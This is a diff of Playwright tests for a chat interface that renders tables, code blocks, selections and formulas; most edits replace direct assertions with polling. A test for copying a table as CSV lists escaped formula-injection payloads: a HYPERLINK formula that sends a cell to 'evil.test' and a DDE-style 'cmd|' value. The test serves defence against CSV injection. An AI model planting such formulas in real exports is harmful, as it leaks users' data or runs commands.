@@ -44,19 +44,21 @@ test('a table is copied as CSV, and no cell of it is a formula', async () => {
   await ann.chat.locator('.wide-table').hover()
   await ann.button('Copy as CSV').click()
   await ann.button('Copied').waitFor()
-  expect(await copied(ann)).toBe(
-    [
-      'Name,Text',
-      '"a ""b""","c, d"',
-      '"one\ntwo",link and x|y',
-      '$x^2$,bold',
-      `'=1+1,"'=HYPERLINK(""https://evil.test?""&A1)"`,
-      `'@SUM(1),'-2+cmd|x`,
-      '-5,+47 22 33',
-      '-5°C,-',
-      'only one,',
-    ].join('\r\n'),
-  )
+  await expect
+    .poll(() => copied(ann))
+    .toBe(
+      [
+        'Name,Text',
+        '"a ""b""","c, d"',
+        '"one\ntwo",link and x|y',
+        '$x^2$,bold',
+        `'=1+1,"'=HYPERLINK(""https://evil.test?""&A1)"`,
+        `'@SUM(1),'-2+cmd|x`,
+        '-5,+47 22 33',
+        '-5°C,-',
+        'only one,',
+      ].join('\r\n'),
+    )
   await settled(ann)
 })
 
@@ -80,13 +82,10 @@ test.each(['light', 'dark'] as const)(
       const surface = mode(Array.from({ length: height }, (_, y) => lightness(width >> 1, y)))
       return [darkest(1), darkest(width - 2)]
     }
-    const [left, right] = await shades()
-    expect(left).toBeLessThan(2)
-    expect(right).toBeGreaterThan(9)
+    const shaded = async (): Promise<boolean[]> => (await shades()).map((shade) => shade > 5)
+    await expect.poll(shaded).toEqual([false, true])
     await table.evaluate((each) => (each.scrollLeft = 1e6))
-    const [leftAtEnd, rightAtEnd] = await shades()
-    expect(leftAtEnd).toBeGreaterThan(9)
-    expect(rightAtEnd).toBeLessThan(2)
+    await expect.poll(shaded).toEqual([true, false])
     await settled(ann)
   },
 )
@@ -105,7 +104,7 @@ test('code has a name, is wrapped, expanded and copied', async () => {
   const text = `\`\`\`ts title="src/main.ts"\n${code}\n\`\`\``
   const ann = await shown(text, CLIPBOARD)
   const block = ann.chat.locator('.code-block')
-  expect(await block.locator('.code-name').textContent()).toBe('src/main.ts')
+  await expect.poll(() => block.locator('.code-name').textContent()).toBe('src/main.ts')
   const pre = block.locator('pre')
   const height = (): Promise<number> => pre.evaluate((each) => each.clientHeight)
   const isWide = (): Promise<boolean> => pre.evaluate((each) => each.scrollWidth > each.clientWidth)
@@ -113,15 +112,15 @@ test('code has a name, is wrapped, expanded and copied', async () => {
   await ann.button('Show more').click()
   await expect.poll(height).toBeGreaterThan(folded * 2)
   const unfolded = await height()
-  expect(await isWide()).toBe(true)
+  await expect.poll(() => isWide()).toBe(true)
   await ann.button('Wrap lines').click()
   await expect.poll(isWide).toBe(false)
-  expect(await height()).toBeGreaterThan(unfolded)
+  await expect.poll(() => height()).toBeGreaterThan(unfolded)
   await ann.button('Show less').click()
   await expect.poll(height).toBe(folded)
   await block.getByRole('button', { name: 'Copy' }).click()
   await block.getByRole('button', { name: 'Copied' }).waitFor()
-  expect(await copied(ann)).toBe(code)
+  await expect.poll(() => copied(ann)).toBe(code)
   await settled(ann)
 })
 
@@ -138,7 +137,7 @@ test('a selection stays while the answer continues, and when its colors arrive',
     await ann.page.waitForTimeout(50)
   }
   await ann.text('End of it').waitFor()
-  expect(await selected()).toBe('First words to select.')
+  await expect.poll(() => selected()).toBe('First words to select.')
   await answer.write('\n\n```js\nconst answer = 42\n')
   const line = ann.chat.locator('.code-block code')
   await line.getByText('const').waitFor()
@@ -146,10 +145,9 @@ test('a selection stays while the answer continues, and when its colors arrive',
   await answer.write('let more = 1\n')
   await line.locator('span[style]').first().waitFor()
   await line.getByText('more').first().waitFor()
-  expect((await selected()).trim()).toBe('const answer = 42')
+  await expect.poll(async () => (await selected()).trim()).toBe('const answer = 42')
   await answer.end()
-  await ann.page.waitForTimeout(200)
-  expect((await selected()).trim()).toBe('const answer = 42')
+  await expect.poll(async () => (await selected()).trim()).toBe('const answer = 42')
   await settled(ann)
 })
 
@@ -159,7 +157,7 @@ test("a blocked link says so in the reader's language", async () => {
   await ann.text('words (link blocked) and file (link blocked)').waitFor()
   await ann.setOptions({ locale: 'de-DE' })
   await ann.text('words (Link blockiert) and file (Link blockiert)').waitFor()
-  expect(await ann.chat.locator('article .markdown a').count()).toBe(0)
+  await expect.poll(() => ann.chat.locator('article .markdown a').count()).toBe(0)
   await settled(ann)
 })
 
@@ -207,8 +205,8 @@ test('a formula that is too deep or too long is shown as its source', async () =
   )
   const formulas = ann.chat.locator('.formula')
   await formulas.nth(2).locator('.katex').waitFor()
-  expect(await formulas.first().textContent()).toBe(deep)
-  expect(await formulas.nth(1).textContent()).toBe(long)
+  await expect.poll(() => formulas.first().textContent()).toBe(deep)
+  await expect.poll(() => formulas.nth(1).textContent()).toBe(long)
   await settled(ann)
 })
 
@@ -295,6 +293,6 @@ test.each([
       return Math.max(...distances) - Math.min(...distances)
     })
   await expect.poll(spread).toBeLessThan(1)
-  expect(await ann.chat.locator('article ol').count()).toBeGreaterThan(1)
+  await expect.poll(() => ann.chat.locator('article ol').count()).toBeGreaterThan(1)
   await settled(ann)
 })
